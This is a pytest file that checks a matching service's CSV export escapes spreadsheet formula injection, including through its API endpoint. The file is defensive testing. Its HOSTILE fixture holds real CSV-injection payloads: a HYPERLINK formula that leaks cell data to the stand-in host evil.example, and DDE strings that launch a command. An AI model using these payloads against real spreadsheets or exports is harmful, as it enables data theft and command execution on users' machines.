"""The CSV export: one row per match with what a business developer needs; no formula gets in."""

import csv
import io

import pytest
from fastapi.testclient import TestClient

from matcher import DocumentEncoder, Store, build_indexes, parse_organisation, parse_project
from service.app import create_app
from service.export import FORMULA_STARTS, safe_cell, write_csv
from tests.conftest import add_user, make_organisation, make_project

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    cell = safe_cell(HOSTILE[start])
    assert cell.startswith("'") and cell[1:] == HOSTILE[start]
    parsed = next(csv.reader(io.StringIO(write_csv(["title"], [[HOSTILE[start]]]))))
    assert not parsed[0].startswith(FORMULA_STARTS)


def test_plain_cells_and_numbers_are_left_alone():
    assert safe_cell("CAR-T for B-ALL") == "CAR-T for B-ALL"
    assert safe_cell(0.125) == "0.125" and safe_cell(None) == ""


def test_the_export_gives_scores_strength_kind_status_days_and_eligibility(settings, embedder):
    with Store(settings.database) as store:
        store.upsert(
            [
                parse_project(make_project(id="P-EVIL", title=HOSTILE["="])),
                parse_organisation(make_organisation(id="O-EVIL", name=HOSTILE["@"])),
            ]
        )
        build_indexes(store, DocumentEncoder(embedder, store), settings.models_dir)
    headers = add_user(settings.database, "bizdev", "bizdev")
    with TestClient(create_app(settings, embedder), headers=headers) as client:
        response = client.get("/api/v1/export/projects?k=2")
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    for row in rows:
        assert not any(value.startswith(FORMULA_STARTS) for value in row.values()), row
        assert 0 <= float(row["score"]) <= 1 and row["strength"] in ("strong", "good", "weak")
    evil = [r for r in rows if r["project_id"] == "P-EVIL"]
    assert evil and all(r["project_title"] == "'" + HOSTILE["="] for r in evil)
    partners = [r for r in rows if r["match"] == "partner"]
    assert partners and all(r["kind"] for r in partners)
    calls = [r for r in rows if r["match"] == "call"]
    assert calls and all(r["call_status"] in ("open", "forthcoming") for r in calls)
    assert all(r["eligibility"] in ("eligible", "conditional") for r in calls)
    dated = [r for r in calls if r["next_deadline"]]
    assert dated and all(int(r["days_left"]) >= 0 for r in dated)
